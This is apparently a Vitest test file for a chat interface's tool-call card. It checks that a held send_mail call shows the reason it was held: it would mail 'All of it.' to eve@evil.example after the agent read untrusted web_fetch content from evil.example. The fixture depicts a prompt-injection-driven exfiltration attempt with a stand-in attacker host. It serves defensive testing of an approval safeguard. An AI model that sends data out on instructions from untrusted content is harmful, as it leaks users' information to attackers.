// @vitest-environment happy-dom
import { createElement } from "react";
import { expect, test } from "vitest";
import type { AnyCall, PendingCall } from "../../src/chat-message.ts";
import { ToolCard } from "../../src/message/tool-card.tsx";
import { render } from "../support/rendered.ts";

const call: AnyCall = {
  type: "dynamic-tool",
  toolName: "send_mail",
  toolCallId: "call:2.0",
  state: "approval-requested",
  input: { to: "eve@evil.example", text: "All of it." },
  approval: { id: "call:2.0" },
};
const asked: PendingCall = { toolCallId: "call:2.0", question: "approval", token: "t", approvedBy: "user" };
const actions = { decide() {}, answer: async () => await Promise.resolve(undefined) };

test("a call that is held because of what the model has read says so in a sentence, as text", async () => {
  const because = { reach: "outside", rule: "ask", untrusted: ["web_fetch <b>evil.example</b>"] } as const;
  const { element } = await render(
    createElement(ToolCard, { call, isOpen: false, asked: { ...asked, because }, actions }),
  );
  expect(element.querySelector(".tool-because")?.textContent).toBe(
    "It would reach outside (Send mail to eve@evil.example) after the agent read untrusted content from web_fetch <b>evil.example</b>.",
  );
});

test("a call that is only approved says nothing of that", async () => {
  const { element } = await render(createElement(ToolCard, { call, isOpen: false, asked, actions }));
  expect(element.querySelector(".tool-because")).toBeNull();
  expect([...element.querySelectorAll("button")].map(({ textContent }) => textContent)).toContain("Approve");
});
